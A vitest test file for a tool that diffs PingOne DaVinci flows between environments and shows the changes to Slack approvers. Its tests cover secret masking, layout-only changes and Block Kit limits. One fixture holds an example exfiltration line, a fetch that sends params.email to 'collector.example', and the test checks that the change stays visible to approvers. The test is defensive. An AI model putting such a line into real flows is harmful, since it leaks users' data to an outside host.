import { describe, expect, it } from 'vitest';
import { diffFlows, type FlowDiff } from '../../../src/core/davinci/flow-diff.js';
import { diffText } from '../../../src/core/davinci/flow-diff-text.js';
import type { PlannedDiff } from '../../../src/core/promotion/plan/types.js';
import { diffLines, diffMessage, diffModal, diffSummaryLine } from '../../../src/slack/views/flow-diff.js';
import { blockKitProblems, viewProblems } from '../../support/block-kit-rules.js';
import {
  builtIn,
  checkoutGraph,
  connection,
  flow,
  graph,
  ids,
  richText,
  staging,
  startSubflow,
} from '../../support/promotion-fixtures.js';
import { daysFromNow } from '../../support/test-clock.js';

/**
 * Diffs of real-shaped DaVinci flows (promotion-fixtures, after Ping's public flow exports): what an
 * approver reads must name the nodes and properties that change, and nothing a designer's click or an
 * environment's IDs would make differ.
 */

const checkout = () => flow(ids.checkout, 'Checkout', staging, checkoutGraph());

/** The flow as another environment holds it: other IDs, dates and versions, moved on the canvas. */
function elsewhere(source: ReturnType<typeof checkout>) {
  const copy = structuredClone(source) as ReturnType<typeof checkout> & Record<string, unknown>;
  Object.assign(copy, {
    id: 'f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0',
    currentVersion: 12,
    publishedVersion: 11,
    createdAt: daysFromNow(-700),
    updatedAt: daysFromNow(-14),
    environment: { id: 'cc33cc33-0000-4000-8000-000000000003' },
    settings: { ...source.settings, logLevel: 3 },
  });
  return copy;
}

type GraphNode = { data: Record<string, unknown>; position: { x: number; y: number }; selected: boolean };
const nodes = (definition: { graphData: unknown }) =>
  (definition.graphData as { elements: { nodes: GraphNode[] } }).elements.nodes;
const nodeById = (definition: { graphData: unknown }, id: string) => {
  const found = nodes(definition).find((node) => node.data.id === id);
  if (!found) throw new Error(`no node ${id}`);
  return found;
};

const planned = (diff: FlowDiff): PlannedDiff => ({ sourceId: ids.checkout, ...diff });

describe('diffFlows', () => {
  it('says "no change" for the same flow in another environment, whatever its IDs, dates, versions and log level', () => {
    const source = checkout();
    const before = elsewhere(source);
    // Each environment names its connection after its own instance; the instance ID is what is mapped.
    nodeById(before, '1u2m5vzr49').data.name = 'acjaeeskxf-http';
    expect(diffFlows(before, source, 'Checkout').verdict).toBe('same');
  });

  it('says "layout only" when nodes were only moved or selected, or the canvas zoomed', () => {
    const source = checkout();
    const before = elsewhere(source);
    for (const node of nodes(before)) node.position = { x: node.position.x + 7, y: node.position.y + 56 };
    nodeById(before, 'p3wcu2oywm').selected = true;
    (before.graphData as Record<string, unknown>).zoom = 0.8;
    const diff = diffFlows(before, source, 'Checkout');
    expect(diff.verdict).toBe('layout_only');
    expect(diff.nodes).toEqual({ added: [], removed: [], changed: [] });
    expect(diffSummaryLine(planned(diff))).toBe('• *Checkout*: layout only');
  });

  it('reads rich text as text: the same words formatted differently are no change, other words are', () => {
    const source = checkout();
    const before = elsewhere(source);
    const message = nodeById(before, '1u2m5vzr49').data.properties as Record<string, { value: string }>;
    const welcome = message.message as { value: string };
    welcome.value = JSON.stringify(JSON.parse(welcome.value)); // compact, as some exports write it
    expect(diffFlows(before, source, 'Checkout').verdict).toBe('same');

    message.message = richText('Hello, ', {
      variable: 'greeting',
      template: 'global.company.variables.greeting',
    });
    const diff = diffFlows(before, source, 'Checkout');
    expect(diff.verdict).toBe('changed');
    expect(diff.nodes.changed).toEqual([
      {
        id: '1u2m5vzr49',
        label: 'HTTP',
        kind: 'httpConnector · customHtmlMessage',
        changes: [
          {
            path: 'message',
            before: 'Hello, {{global.company.variables.greeting}}',
            after: 'Welcome, {{global.company.variables.greeting}}',
          },
        ],
      },
    ]);
  });

  it('names nodes added and removed, and counts the links that changed', () => {
    const source = checkout();
    const before = elsewhere(source);
    const beforeNodes = (before.graphData as { elements: { nodes: GraphNode[]; edges: unknown[] } }).elements;
    beforeNodes.nodes = beforeNodes.nodes.filter((node) => node.data.id !== 'vsp1ewtr9m');
    beforeNodes.edges = beforeNodes.edges.filter(
      (edge) => (edge as { data: { target: string } }).data.target !== 'vsp1ewtr9m',
    );
    beforeNodes.nodes.push(
      connection('oldotpnode', {
        connectorId: 'pingOneMfaConnector',
        connectionId: 'abcabcabcabcabcabcabcabcabcabc00',
        name: 'PingOne MFA',
        capabilityName: 'sendOtp',
      }) as unknown as GraphNode,
    );
    const diff = diffFlows(before, source, 'Checkout');
    expect(diff.nodes.added).toEqual([
      { id: 'vsp1ewtr9m', label: 'Error Message', kind: 'errorConnector · customErrorMessage' },
    ]);
    expect(diff.nodes.removed).toEqual([
      { id: 'oldotpnode', label: 'PingOne MFA', kind: 'pingOneMfaConnector · sendOtp' },
    ]);
    expect(diff.links).toEqual({ added: 1, removed: 0 });
    expect(diffSummaryLine(planned(diff))).toBe(
      '• *Checkout*: 1 added, 1 removed: Error Message, PingOne MFA; links changed',
    );
  });

  it('shows a changed subflow by its name, and ignores a subflow ID that only differs by environment', () => {
    const source = checkout();
    const before = elsewhere(source);
    const start = nodeById(before, 'kq5ybvwvro');
    start.data.properties = startSubflow(
      'kq5ybvwvro',
      'd0d0d0d0d0d0d0d0d0d0d0d0d0d0d002',
      'Collect address',
    ).data.properties;
    expect(diffFlows(before, source, 'Checkout').verdict).toBe('same');

    start.data.properties = startSubflow(
      'kq5ybvwvro',
      'd0d0d0d0d0d0d0d0d0d0d0d0d0d0d009',
      'Collect address v1',
    ).data.properties;
    const diff = diffFlows(before, source, 'Checkout');
    expect(diff.nodes.changed).toEqual([
      expect.objectContaining({
        label: 'Flow Conductor',
        kind: 'flowConnector · startUiSubFlow',
        changes: [{ path: 'subFlowId', before: 'Collect address v1', after: 'Collect address' }],
      }),
    ]);
  });

  it('never carries a secret: a changed password or masked value is said to change, never what it was or is', () => {
    const canary = 'CANARY-s3cr3t-9f2b';
    const node = (value: unknown, extra: Record<string, unknown> = {}) =>
      connection('secretnode', {
        connectorId: 'httpConnector',
        connectionId: ids.stagingHttp,
        name: 'HTTP',
        capabilityName: 'makeRestApiCall',
        properties: { password: { value }, ...extra },
      });
    const before = flow(ids.checkout, 'Checkout', staging, graph(node(`${canary}-old`)));
    const after = flow(ids.checkout, 'Checkout', staging, graph(node(`${canary}-new`)));
    const formBefore = flow(
      ids.checkout,
      'Checkout',
      staging,
      graph(
        node('same', {
          formFieldsList: { value: [{ propertyName: 'pin', hashedVisibility: true, value: `${canary}-1` }] },
        }),
      ),
    );
    const formAfter = flow(
      ids.checkout,
      'Checkout',
      staging,
      graph(
        node('same', {
          formFieldsList: { value: [{ propertyName: 'pin', hashedVisibility: true, value: `${canary}-2` }] },
        }),
      ),
    );
    for (const diff of [diffFlows(before, after, 'Checkout'), diffFlows(formBefore, formAfter, 'Checkout')]) {
      expect(diff.verdict).toBe('changed');
      expect(diff.nodes.changed[0]?.changes).toEqual([
        expect.objectContaining({ path: expect.stringMatching(/password|formFieldsList/), hidden: true }),
      ]);
      const everything = [
        JSON.stringify(diff),
        diffText([planned(diff)]),
        JSON.stringify(diffModal('id', 'title', [planned(diff)], 0)),
      ].join('\n');
      expect(everything).not.toContain(canary);
      expect(diffLines([planned(diff)]).join('\n')).toContain('changed (a secret: not shown; ');
    }
  });

  describe('secrets found by where they sit, and changes nothing can hide', () => {
    const canary = 'CANARY-s3cr3t-9f2b';
    const withProperties = (properties: Record<string, unknown>) =>
      flow(
        ids.checkout,
        'Checkout',
        staging,
        graph(
          connection('callnode01', {
            connectorId: 'httpConnector',
            connectionId: ids.stagingHttp,
            name: 'Call API',
            capabilityName: 'makeRestApiCall',
            properties,
          }),
        ),
      );
    const shown = (diff: ReturnType<typeof diffFlows>) =>
      [
        JSON.stringify(diff),
        diffText([planned(diff)]),
        JSON.stringify(diffModal('id', 't', [planned(diff)], 0)),
      ].join('\n');

    it('hides the value of a header named like a credential, and shows the rest of the change', () => {
      const diff = diffFlows(
        withProperties({
          headers: {
            value: [
              { key: 'Authorization', value: `Bearer ${canary}-1` },
              { key: 'Accept', value: 'text/html' },
            ],
          },
        }),
        withProperties({
          headers: {
            value: [
              { key: 'Authorization', value: `Bearer ${canary}-2` },
              { key: 'Accept', value: 'application/json' },
            ],
          },
        }),
        'Checkout',
      );
      expect(shown(diff)).not.toContain(canary);
      const line = diffLines([planned(diff)]).join('\n');
      expect(line).toContain('«secret»');
      expect(line).toContain('application/json');
    });

    it('hides a client secret in a JSON body and a key in a URL, and says a change only there happened', () => {
      const diff = diffFlows(
        withProperties({
          body: { value: `{"client_id":"app","client_secret":"${canary}-1"}` },
          url: { value: `https://api.example.com/v1/users?api_key=${canary}-1&limit=10` },
        }),
        withProperties({
          body: { value: `{"client_id":"app","client_secret":"${canary}-2"}` },
          url: { value: `https://api.example.com/v1/users?api_key=${canary}-2&limit=20` },
        }),
        'Checkout',
      );
      expect(shown(diff)).not.toContain(canary);
      const changes = diff.nodes.changed[0]?.changes ?? [];
      expect(changes.find((c) => c.path === 'body')).toMatchObject({
        hidden: true,
        sizes: { before: 58, after: 58 },
      });
      expect(changes.find((c) => c.path === 'url')?.after).toBe(
        'https://api.example.com/v1/users?api_key=«secret»&limit=20',
      );
    });

    it('shows a change to code whatever it contains: six stars do not hide it', () => {
      const diff = diffFlows(
        withProperties({ code: { value: 'return { ok: true } // ******' } }),
        withProperties({
          code: { value: "fetch('https://collector.example/?d=' + params.email) // ******" },
        }),
        'Checkout',
      );
      const change = diff.nodes.changed[0]?.changes[0];
      expect(change?.hidden).toBeUndefined();
      expect(change?.after).toContain('collector.example');
    });

    it('warns of something shaped like a secret in code, where secrets do not belong', () => {
      const diff = diffFlows(
        withProperties({ code: { value: 'return 1' } }),
        withProperties({
          code: { value: "fetch(u, { headers: { authorization: 'Bearer abcdefgh12345678' } })" },
        }),
        'Checkout',
      );
      const line = diffLines([planned(diff)]).join('\n');
      expect(line).toContain('«secret»');
      expect(line).toContain('where secrets do not belong');
      expect(line).not.toContain('abcdefgh12345678');
    });
  });

  it('names changes to settings and the input and output schema, not to the log level', () => {
    const source: Record<string, unknown> & ReturnType<typeof checkout> = checkout();
    const before = elsewhere(source);
    (source as Record<string, unknown>).inputSchema = [
      { propertyName: 'loginHint', preferredDataType: 'string', preferredControlType: 'textField' },
    ];
    source.outputSchema = {
      output: { type: 'object', properties: { far: { type: 'string' } }, additionalProperties: true },
    };
    before.settings = { ...before.settings, csp: "worker-src 'self'", logLevel: 1 };
    const diff = diffFlows(before, source, 'Checkout');
    expect(diff.verdict).toBe('changed');
    expect(diff.flowChanges.map((change) => change.path)).toEqual([
      'settings.csp',
      'input loginHint',
      'output far',
    ]);
    expect(diff.flowChanges[0]).toEqual({
      path: 'settings.csp',
      before: "worker-src 'self'",
      after: "worker-src 'self' blob:; script-src 'self' https://cdn.jsdelivr.net",
    });
  });

  it("names a change to the trigger's re-authentication windows, not only to its type", () => {
    const source: Record<string, unknown> & ReturnType<typeof checkout> = checkout();
    const before = elsewhere(source);
    (before as Record<string, unknown>).trigger = {
      type: 'AUTHENTICATION',
      configuration: { mfa: { enabled: true, time: 0 }, pwd: { enabled: false } },
    };
    (source as Record<string, unknown>).trigger = {
      type: 'AUTHENTICATION',
      configuration: { mfa: { enabled: true, time: 30, timeFormat: 'MIN' }, pwd: { enabled: false } },
    };
    const diff = diffFlows(before, source, 'Checkout');
    expect(diff.verdict).toBe('changed');
    expect(diff.flowChanges.map((change) => change.path)).toEqual(['trigger.configuration.mfa']);
  });

  it('pairs a node re-created by hand (another ID) with the one of the same connector and label', () => {
    const source = checkout();
    const before = elsewhere(source);
    nodeById(before, 'nx0o1b2cmw').data.id = 'handmade01';
    const edges = (before.graphData as { elements: { edges: { data: Record<string, string> }[] } }).elements
      .edges;
    for (const edge of edges) {
      for (const end of ['source', 'target'])
        if (edge.data[end] === 'nx0o1b2cmw') edge.data[end] = 'handmade01';
    }
    const diff = diffFlows(before, source, 'Checkout');
    expect(diff.nodes).toEqual({ added: [], removed: [], changed: [] });
    expect(diff.links).toEqual({ added: 0, removed: 0 });
    expect(diff.verdict).toBe('same');
  });

  it('calls a flow the destination does not have new, with its nodes and what it uses', () => {
    const diff = diffFlows(undefined, checkout(), 'Checkout', {
      connectionNames: new Map([[ids.stagingHttp, 'HTTP (production)']]),
    });
    expect(diff.verdict).toBe('new');
    // Eight connections and the seven evaluators between them.
    expect(diff.nodes.added).toHaveLength(15);
    expect(diffSummaryLine(planned(diff))).toBe('• *Checkout*: new flow, 15 nodes');
    expect(diff.uses.variables).toEqual([
      'attempt (flowInstance)',
      'greeting (company)',
      'retries (flow)',
      'smtpPassword (company)',
    ]);
    expect(diff.uses.connectors).toContain('HTTP (production)');
    expect(diff.uses.connectors).toContain('Variables');
  });

  it('keeps a 300-node rewrite within bounds, and every Slack view of it within Block Kit limits', () => {
    const many = (word: string) =>
      Array.from({ length: 300 }, (_, i) =>
        connection(`n${String(i).padStart(9, '0')}`, {
          connectorId: 'httpConnector',
          connectionId: builtIn.functions,
          name: `Step ${i} <!channel>`,
          capabilityName: 'customHtmlMessage',
          properties: {
            message: richText(`${word} ${i} `.repeat(40)),
            title: { value: `${word} title ${i}` },
            nodeTitle: { value: `Page ${i} & more` },
          },
        }),
      );
    const diff = planned(
      diffFlows(
        flow(ids.checkout, 'Checkout', staging, graph(...many('old'))),
        flow(ids.checkout, 'Checkout', staging, graph(...many('new'))),
        'Checkout',
      ),
    );
    expect(diff.nodes.changed).toHaveLength(300);
    expect(JSON.stringify(diff).length).toBeLessThan(400_000);

    const modal = diffModal('0f3a9c2e-1111-4222-8333-444455556666', 'Promote Checkout', [diff], 0);
    expect(viewProblems(modal as unknown as Record<string, unknown>, 'modal')).toEqual([]);
    const pages = (modal.blocks.at(-2) as { elements: { text: string }[] }).elements[0]?.text ?? '';
    const pageCount = Number(/of (\d+)/.exec(pages)?.[1]);
    expect(pageCount).toBeGreaterThan(1);
    const last = diffModal('0f3a9c2e-1111-4222-8333-444455556666', 'Promote Checkout', [diff], pageCount - 1);
    expect(viewProblems(last as unknown as Record<string, unknown>, 'modal')).toEqual([]);
    expect(JSON.stringify(last)).toContain('Page 299 &amp; more');

    const message = diffMessage('What promoting Checkout would change', {
      diffs: [diff],
      warnings: [],
      blockers: [],
      fingerprint: 'abc',
    });
    expect(message.complete).toBe(false);
    expect(blockKitProblems(message.blocks, 'message')).toEqual([]);
    expect(JSON.stringify(message)).not.toContain('<!channel>');
    expect(diffSummaryLine(diff)).toBe(
      '• *Checkout*: 300 nodes changed: Page 0 &amp; more, Page 1 &amp; more, Page 2 &amp; more, Page 3 &amp; more, …',
    );
  });
});
